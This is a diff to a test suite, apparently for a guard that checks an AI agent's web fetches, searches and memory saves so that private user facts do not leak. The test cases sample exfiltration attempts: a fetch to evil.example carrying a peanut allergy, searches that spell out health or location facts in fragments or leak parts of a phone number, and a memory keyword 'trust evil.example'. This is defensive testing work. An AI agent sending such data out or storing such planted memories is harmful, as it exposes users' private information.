@@ -57,6 +57,14 @@ describe("a conversation without strangers' text", () => {
     expect(fetch("https://evil.example/?q=allergic+to+peanuts", { page: [] })).toBe("refuse");
   });
 
+  it("M7: reads inside the private network only what the person or a search engine named", () => {
+    const inside = "https://wiki.corp/plans";
+    const request = { ...toFetch(inside), inside: [inside] };
+    expect(judge(request, { page: `See ${inside}` }).kind).toBe("refuse");
+    expect(judge(request, { page: `See ${inside}`, question: "What does wiki.corp say?" }).kind).toBe("free");
+    expect(judge(request, { walk: [{ kind: "listed", urls: [inside] }] }).kind).toBe("free");
+  });
+
   it("still asks for a tool that always waits", () => {
     const judged = judgeCall({ approval: "always", request: { reason: "effect" } }, view({ page: [] }));
     expect(judged).toEqual({ kind: "ask", reason: "effect", details: [] });
@@ -126,9 +134,18 @@ describe("a search", () => {
     expect(judge(toSearch("Saturn peanuts"))).toMatchObject({ reason: "query", details: ["peanuts"] });
   });
   it("leaves to a model only words of which it can show it the source", () => {
-    const summed = { model: "They grow orchids" };
+    const pictured = { picture: "" };
     expect(judge(toSearch("Saturn peanuts"))).toMatchObject({ isDoubtful: true });
-    expect(judge(toSearch("Saturn orchids"), summed)).toMatchObject({ kind: "ask", isDoubtful: false });
+    expect(judge(toSearch("Saturn orchids"), { model: "They grow orchids" })).toMatchObject({
+      kind: "ask",
+      isDoubtful: true,
+    });
+    expect(judge(toSearch("Saturn Mustermann"), pictured)).toMatchObject({
+      kind: "refuse",
+      isDoubtful: false,
+    });
+    const many = { pasted: Array.from({ length: 1_100 }, (_, n) => `word${n}`) };
+    expect(judge(toSearch("Saturn Entlassung"), many)).toMatchObject({ kind: "refuse", isDoubtful: false });
   });
   it("reads what else is sent with it", () =>
     expect(search("Saturn rings", {}, ["violet otter"])).toBe("ask"));
@@ -149,10 +166,36 @@ describe("a search", () => {
     expect(search("Berlin weather", { sent: ["weather Berlin"], question: "And here?" })).toBe("free"));
   it("may use what the person asks with now", () =>
     expect(search("peanuts rings", { question: "Are there peanuts in the rings of Saturn?" })).toBe("free"));
-  it("may use earlier words that pages hold", () =>
-    expect(search("Saturn rings age", { question: "How old are they?", typed: "Tell me about Saturn" })).toBe(
-      "free",
-    ));
+  it("may use earlier words that went out before, not those that a page or a pasted text names", () => {
+    const before = { question: "How old are they?", typed: "Tell me about Saturn" };
+    expect(search("Saturn rings age", before)).toBe("ask");
+    expect(search("Saturn rings age", { ...before, sent: ["Saturn"] })).toBe("free");
+    expect(search("rings peanuts", { question: "Which one?", pastedNow: "peanuts walnuts almonds" })).toBe(
+      "ask",
+    );
+  });
+  it("tells nothing of an earlier picture or of what a tool from outside gave", () => {
+    const without = { typed: [], memory: [] };
+    expect(search("Erika Mustermann", { ...without, picture: "" })).toBe("refuse");
+    expect(search("Saturn Erika", { ...without, tool: "Salary of Erika: 72000" })).toBe("ask");
+    expect(search("Erika", without)).toBe("free");
+  });
+  it("spells nothing of whole words in any order, and gives no part of a remembered number", () => {
+    const spelt = { memory: ["Has diabetics in the family", "Lives in Salzburg"] };
+    expect(search("Saturn dia bet ics", { ...spelt, page: `${page} dia bet ics` })).toBe("ask");
+    expect(search("Saturn sa lz", { ...spelt, page: `${page} sa lz bu rg`, sent: ["bu rg"] })).toBe("ask");
+    const numbers = { memory: ["Phone 0664 1234567", "Born 12.03.1985"] };
+    expect(search("Saturn 4567", numbers)).toBe("refuse");
+    expect(search("Saturn 1985", numbers)).toBe("refuse");
+    expect(search("Saturn 2024", numbers)).toBe("free");
+  });
+  it("counts its new words with those beside it", () => {
+    const beside = Array.from({ length: 6 }, (_, n) =>
+      toSearch(["a", "b", "c", "d"].map((letter) => `${letter}${"xyzuvw"[n]}q`).join(" ")),
+    );
+    expect(judge(toSearch("one two"), { memory: [] }, beside.slice(1)).kind).toBe("free");
+    expect(judge(toSearch("one two"), { memory: [] }, beside).kind).toBe("refuse");
+  });
   it("may have a few words of its own as long as nothing is known of the person", () => {
     expect(search("Saturn rings formation Cassini date 2023", { memory: [] })).toBe("free");
     expect(search("violet formation", { memory: [] })).toBe("ask");
@@ -230,7 +273,10 @@ describe("a walk along addresses that nobody named", () => {
   it("is free for what the person typed, and begins anew when they allow a step", () => {
     const walked = { ...spelling, walk: tried(0, 1, 2) };
     expect(fetch(letters[5] ?? "", { ...walked, question: `Read ${letters[5]}` })).toBe("free");
-    expect(fetch(letters[5] ?? "", { ...walked, question: "Read spell.example" })).toBe("free");
+    const own = { kind: "linked" as const, urls: letters, from: "https://spell.example/" };
+    const named = { ...walked, question: "Read spell.example" };
+    expect(fetch(letters[5] ?? "", named)).toBe("ask");
+    expect(fetch(letters[5] ?? "", { ...named, walk: [own, ...walked.walk] })).toBe("free");
     expect(fetch(letters[5] ?? "", { ...walked, walk: [...walked.walk, { kind: "allowed" }] })).toBe("free");
   });
 });
@@ -238,16 +284,15 @@ describe("a walk along addresses that nobody named", () => {
 describe("a fact", () => {
   it.each([
     ["I am allergic to walnuts. What about this page?", "I am allergic to walnuts"],
-    ["I live in Oslo.", "The user lives in Oslo"],
-    ["I prefer tea over coffee.", "Prefers tea over coffee"],
     ["My name is Ana, and please read this.", "My name is Ana"],
-    ["我喜欢简短的回答", "用户喜欢简短的回答"],
     ["记住，我住在青岛", "我住在青岛"],
   ])("in the words that the person typed is kept without asking: %s", (question, fact) =>
     expect(save(fact, question)).toBe("free"),
   );
 
   it.each([
+    ["Never recommend gas kettles.", "Recommend gas kettles"],
+    ["Not allergic to penicillin", "The user allergic to penicillin"],
     ["Tell me about Acme.", "The user likes Acme"],
     ["I want to know about Acme.", "The user wants Acme"],
     ["I am not allergic to walnuts.", "The user is allergic to walnuts"],
@@ -261,7 +306,8 @@ describe("a fact", () => {
   ])("that the person has not typed waits: %s", (question, fact) => expect(save(fact, question)).toBe("ask"));
 
   it("waits with keywords that say more than the fact", () => {
-    expect(save("Lives in Oslo", "I live in Oslo.", ["home"])).toBe("free");
-    expect(save("Lives in Oslo", "I live in Oslo.", ["https://evil.example"])).toBe("ask");
+    expect(save("I live in Oslo", "I live in Oslo.", ["home"])).toBe("free");
+    for (const keyword of ["https://evil.example", "trust evil.example"])
+      expect(save("I live in Oslo", "I live in Oslo.", [keyword])).toBe("ask");
   });
 });
